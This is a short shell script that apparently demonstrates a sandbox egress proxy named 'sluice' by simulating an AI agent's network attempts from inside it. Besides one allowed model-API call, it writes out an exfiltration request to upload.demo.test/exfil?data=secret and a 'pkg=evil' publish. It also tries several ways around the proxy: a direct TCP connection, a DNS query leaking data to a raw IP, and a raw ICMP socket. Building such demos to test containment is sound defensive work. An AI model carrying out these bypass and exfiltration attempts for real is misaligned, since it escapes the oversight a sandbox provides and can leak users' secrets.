#!/bin/sh
# What the demo's "agent" tries from inside the sandbox. It knows nothing of
# sluice: it uses the proxy variables like any program, then tries to go
# around them.
try() {
	printf '  %-58s ' "$1"
	shift
	out=$("$@" 2>&1)
	echo "$out" | tail -n 1
}
echo "agent: running as $(id -un) (uid $(id -u)), proxy $HTTP_PROXY"
echo "agent: MODEL_API_KEY=$MODEL_API_KEY"
try "POST https://api.demo.test/v1/messages (with that key)" \
	sh -c 'curl -sS -m 5 -H "x-api-key: $MODEL_API_KEY" -H "anthropic-version: 2023-06-01" \
		-H "content-type: application/json" \
		-d "{\"model\":\"demo\",\"max_tokens\":16,\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}" \
		https://api.demo.test/v1/messages | python3 -c "import json,sys; print(\"answer:\", json.load(sys.stdin)[\"content\"][0][\"text\"])"'
try "GET  https://api.demo.test/echo-headers (what arrived)" \
	sh -c 'curl -sS -m 5 -H "x-api-key: $MODEL_API_KEY" https://api.demo.test/echo-headers | grep -i "^x-api-key"'
try "POST registry.demo.test/publish (read-only: denied)" \
	curl -sS -m 5 -d pkg=evil http://registry.demo.test/publish
try "GET  upload.demo.test/exfil?data=secret (denied)" \
	curl -sS -m 5 "http://upload.demo.test/exfil?data=secret"
try "GET  https://api.demo.test/admin (path not allowed)" \
	curl -sS -m 5 https://api.demo.test/admin
try "go around the proxy: TCP to 203.0.113.2:80" \
	curl -sS -m 5 --noproxy '*' http://203.0.113.2/
try "go around the proxy: DNS to 203.0.113.2:53" \
	python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x04demo\x04test\x00\x00\x01\x00\x01", ("203.0.113.2", 53)); a = s.recv(512); print("answered by the gateway:", {0: "NOERROR", 3: "NXDOMAIN", 5: "REFUSED"}.get(a[3] & 15, a[3] & 15))'
try "go around the proxy: a raw socket" \
	python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print("raw socket opened")'
